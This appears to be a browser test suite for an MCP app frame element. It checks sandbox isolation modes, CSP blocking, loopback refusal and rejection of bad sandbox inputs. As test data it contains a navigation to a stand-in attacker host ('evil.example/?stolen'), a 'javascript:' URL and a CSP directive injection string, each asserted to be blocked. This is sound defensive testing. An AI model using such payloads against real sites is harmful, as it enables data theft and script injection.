// The three kinds of isolation, and what the frame guarantees with each. Attacks on them are in test/security.
import { assert } from 'chai';
import type { McpAppFrameElement } from '../../../packages/elements/src/mcp-app-frame/mcp-app-frame.js';
import { startAttacker } from '../../security/support/attacker.js';
import { allowedIn } from '../../support/allowed-features.js';
import { engine } from '../../support/engine.js';
import type { SandboxResolver } from '../../../packages/elements/src/host/index.js';
import {
  connectClient,
  eventually,
  failingFrame,
  mountFrame,
  nextEvent,
  readyFrame,
  removeFrames,
  sandboxUrl,
  scriptedHtml,
  startServer,
  untilReady,
  viewEvaluates,
  viewReceived,
  viewRequests,
} from '../../support/frame-harness.js';
import { otherOrigin } from '../../support/other-origin.js';

describe('the kinds of isolation', () => {
  let html: string;
  let proxy: string;
  before(async () => {
    html = await scriptedHtml();
    proxy = await sandboxUrl();
  });
  afterEach(removeFrames);

  const iframeOf = (frame: HTMLElement) => frame.shadowRoot!.querySelector('iframe')!;

  it('S1 nothing set: an opaque sandbox inside the page', async () => {
    const frame = await readyFrame({ html });
    assert.equal(frame.isolation, 'opaque');
    assert.equal(iframeOf(frame).getAttribute('sandbox'), 'allow-scripts allow-forms');
    assert.equal(await viewEvaluates(frame, 'self.origin'), 'null');
    assert.throws(() => iframeOf(frame).contentWindow!.document);
  });

  it('S1 sandbox-url: the page on another origin, and the view still opaque', async () => {
    const frame = await readyFrame({ html, sandboxUrl: proxy });
    assert.equal(frame.isolation, 'origin');
    assert.include(iframeOf(frame).getAttribute('sandbox'), 'allow-same-origin');
    assert.equal(await viewEvaluates(frame, 'self.origin'), 'null');
  });

  it('S1 sandbox-file: a file of the same origin, opaque all the same', async () => {
    const frame = await readyFrame({ html, sandboxFile: '/packages/elements/dist/sandbox.html' });
    assert.equal(frame.isolation, 'opaque-file');
    assert.notInclude(iframeOf(frame).getAttribute('sandbox'), 'allow-same-origin');
    assert.equal(await viewEvaluates(frame, 'self.origin'), 'null');
  });

  it('S1 same origin with its own rights is refused, and says what to do', async () => {
    const { error, frame } = await failingFrame({
      html,
      sandboxUrl: '/packages/elements/dist/sandbox.html',
    });
    assert.equal(`${error.phase}/${error.reason}`, 'sandbox/same-origin');
    assert.include(error.hint, 'another site');
    assert.isNull(frame.shadowRoot!.querySelector('iframe'));
  });

  it('bad input: a sandbox URL that is no URL', async () => {
    const { error } = await failingFrame({ html, sandboxUrl: 'javascript:alert(1)' });
    assert.equal(error.reason, 'bad-sandbox-url');
  });

  it('bad input: a sandbox URL that 404s', async () => {
    const { error } = await failingFrame({ html, sandboxUrl: `${otherOrigin}/no-such-page.html` });
    assert.equal(error.reason, 'sandbox-silent');
    assert.include(error.hint, location.origin);
  });

  it('bad input: a sandbox server that is down', async () => {
    const { error } = await failingFrame({
      html,
      sandboxUrl: 'http://127.0.0.1:9/sandbox.html',
      limits: { sandboxTimeout: 1500 },
    });
    assert.equal(error.phase, 'sandbox');
  });

  it('S9 a resolver chooses the sandbox by server and domain', async () => {
    const asked: unknown[] = [];
    const frame = await readyFrame({
      resource: {
        uri: 'ui://x/y',
        mimeType: 'text/html;profile=mcp-app',
        text: html,
        _meta: { ui: { domain: 'shop.example' } },
      },
      sandboxFor: (question) => {
        asked.push(question);
        return proxy;
      },
    });
    assert.equal(frame.isolation, 'origin');
    assert.deepEqual(asked, [
      {
        server: undefined,
        serverName: undefined,
        domain: 'shop.example',
        resourceUri: 'ui://x/y',
      },
    ]);
  });

  it('D16 S9 a resolver gets what the page calls the server, and apart from it the name that the server gives itself', async () => {
    const asked: (string | undefined)[][] = [];
    const url = await startServer(2);
    const client = await connectClient(url, 2);
    const sandboxFor: SandboxResolver = ({ server, serverName }) => {
      asked.push([server, serverName]);
      return undefined;
    };
    const own = client.getServerVersion()!.name;
    await readyFrame({ client, tool: 'app', serverId: 'shop', sandboxFor });
    await readyFrame({ client, tool: 'app', sandboxFor });
    await readyFrame({ server: url, tool: 'app', sandboxFor });
    assert.deepEqual(asked, [
      ['shop', own],
      [undefined, own],
      [url, own],
    ]);
    await client.close();
  });

  it('S9 a resolver that fails is explained', async () => {
    const { error } = await failingFrame({
      html,
      sandboxFor: () => {
        throw new Error('no such tenant');
      },
    });
    assert.include(error.message, 'no such tenant');
  });

  it('S2 S3 a plain proxy page that knows only the specification works', async () => {
    const frame = await readyFrame({
      html,
      sandboxUrl: `${otherOrigin}/test/pages/plain-proxy.html`,
      toolInput: { a: 1 },
      handlers: { callTool: () => ({ content: [] }) },
    });
    assert.deepEqual((await viewRequests(frame, 'tools/call', { name: 'x' })).result, {
      content: [],
    });
    const [input] = await eventually(async () => {
      const received = await viewReceived(frame, 'ui/notifications/tool-input');
      return received.length > 0 && received;
    });
    assert.deepEqual(input!.params, { arguments: { a: 1 } });
  });

  it('S2 S3 a newer page of ours, which says more than this version knows, works', async () => {
    const troubles: string[] = [];
    const versions: unknown[] = [];
    const hear = ({ data }: MessageEvent) => versions.push(data?.params?.version);
    addEventListener('message', hear);
    const frame = mountFrame({
      html,
      sandboxUrl: `${otherOrigin}/test/browser/sandbox/pages/newer.html?hosts=${location.origin}`,
      handlers: { callTool: () => ({ content: [] }) },
    });
    for (const type of ['mcp-app-error', 'mcp-app-refused'])
      frame.addEventListener(type, () => troubles.push(type));
    await untilReady(frame);
    removeEventListener('message', hear);
    assert.include(versions, '99.0.0');
    const { result } = await viewRequests(frame, 'tools/call', { name: 'x' });
    assert.deepEqual(result, { content: [] });
    // It is known as ours: its reports arrive.
    const blocked = nextEvent(frame, 'mcp-app-csp-violation');
    await viewEvaluates(frame, `fetch('https://elsewhere.invalid/').catch(() => 0)`);
    assert.equal((await blocked).directive, 'connect-src');
    assert.deepEqual(troubles, []);
  });

  it('what a plain proxy passes on is held to the limits', async () => {
    const frame = await readyFrame({
      html,
      sandboxUrl: `${otherOrigin}/test/pages/plain-proxy.html`,
      limits: { maxMessageBytes: 10_000 },
    });
    const refused = nextEvent(frame, 'mcp-app-refused');
    await frame.callAppTool('evaluate', {
      code: `post({ method: 'notifications/message', params: { level: 'info', data: 'x'.repeat(50000) } }); 1`,
    });
    assert.equal((await refused).refusals[0]!.kind, 'message');
    assert.deepEqual((await viewRequests(frame, 'ping')).result, {});
  });

  for (const mode of ['opaque', 'origin'] as const) {
    const settings = () => (mode === 'origin' ? { sandboxUrl: proxy } : {});

    it(`S6 permissions are on both iframes, after the page's list (${mode})`, async () => {
      const frame = await readyFrame({
        html,
        ...settings(),
        allow: ['microphone', 'clipboard-write'],
        resourceMeta: { permissions: { microphone: {}, camera: {} } },
      });
      assert.equal(allowedIn(iframeOf(frame).allow), 'microphone');
    });

    it(`S4 an undeclared domain is blocked, and the block becomes an event (${mode})`, async () => {
      const frame = await readyFrame({ html, ...settings() });
      const violation = nextEvent(frame, 'mcp-app-csp-violation');
      const fetched = await viewEvaluates(
        frame,
        `fetch(${JSON.stringify(location.origin)} + '/package.json').then(() => 'open', () => 'blocked')`,
      );
      assert.equal(fetched, 'blocked');
      assert.deepInclude(await violation, { directive: 'connect-src' });
    });

    // no-cors: whether the answer may be read is the server's word, whether it is asked is ours.
    const canFetch = (frame: McpAppFrameElement, origin: string) =>
      viewEvaluates(
        frame,
        `fetch(${JSON.stringify(origin)} + '/x', { mode: 'no-cors' }).then(() => 'open', () => 'blocked')`,
      );

    it(`S4 a page on loopback opens no loopback service unless it says so (${mode})`, async () => {
      const { url } = await startAttacker([]);
      const frame = mountFrame({
        html,
        ...settings(),
        resourceMeta: { csp: { connectDomains: [url] } },
      });
      const refused = nextEvent(frame, 'mcp-app-refused');
      await nextEvent(frame, 'mcp-app-ready');
      assert.include((await refused).refusals[0]!.reason, 'allowLoopback');
      assert.equal(await canFetch(frame, url), 'blocked');
    });

    it(`S5 a declared domain is open, but not the page's own under another name (${mode})`, async () => {
      const { url } = await startAttacker([]);
      const frame = await readyFrame({
        html,
        ...settings(),
        allowLoopback: true,
        resourceMeta: { csp: { connectDomains: [url, otherOrigin] } },
      });
      assert.equal(await canFetch(frame, url), 'open');
      assert.equal(await canFetch(frame, otherOrigin), 'blocked');
    });

    it(`eval works by default and not with strict-csp (${mode})`, async () => {
      const lax = await readyFrame({ html, ...settings() });
      assert.equal(await viewEvaluates(lax, '1 + 1'), 2);
      const strict = await readyFrame({ html, ...settings(), strictCsp: true });
      const outcome = await strict.callAppTool('evaluate', { code: '1 + 1' }).then(
        () => 'ran',
        () => 'blocked',
      );
      assert.equal(outcome, 'blocked');
    });

    it(`a view that navigates away is stopped and, where it dies of it, said so (${mode})`, async () => {
      const frame = await readyFrame({ html, ...settings() });
      const blocked = nextEvent(frame, 'mcp-app-csp-violation');
      const failed = engine === 'chromium' && nextEvent(frame, 'mcp-app-error');
      await frame.callAppTool('evaluate', {
        code: `setTimeout(() => { location.href = 'https://evil.example/?stolen' }, 50); 1`,
      });
      assert.equal((await blocked).directive, 'frame-src');
      // Only Chromium leaves a dead view behind.
      if (failed) {
        const { phase, reason } = await failed;
        assert.equal(`${phase}/${reason}`, 'view/navigated-away');
      } else assert.deepEqual((await viewRequests(frame, 'ping')).result, {});
    });

    it(`the view learns neither the page's URL nor its referrer (${mode})`, async () => {
      const frame = await readyFrame({ html, ...settings() });
      assert.equal(await viewEvaluates(frame, 'document.baseURI'), 'about:srcdoc');
      assert.equal(await viewEvaluates(frame, 'document.referrer'), '');
    });

    it(`sandbox tokens: those that the page opts into, never the dangerous ones (${mode})`, async () => {
      const frame = await readyFrame({
        html,
        ...settings(),
        sandboxTokens: ['allow-modals', 'allow-top-navigation' as 'allow-modals'],
      });
      const tokens = iframeOf(frame).getAttribute('sandbox')!;
      assert.include(tokens, 'allow-modals');
      assert.notInclude(tokens, 'top-navigation');
    });
  }

  it('S4 bad domains are refused, said so, and the rest is granted', async () => {
    const refused = new Promise<string[]>((resolve) => {
      document.addEventListener(
        'mcp-app-refused',
        (event) =>
          resolve(
            (event as HTMLElementEventMap['mcp-app-refused']).refusals.map(({ what }) => what),
          ),
        { once: true },
      );
    });
    await readyFrame({
      html,
      resourceMeta: {
        csp: { connectDomains: ['https://ok.example; script-src *', 'https://ok.example', '*'] },
        permissions: { camera: {} },
      },
    });
    assert.deepEqual(await refused, [
      'connectDomains: https://ok.example; script-src *',
      'connectDomains: *',
      'camera',
    ]);
  });
});
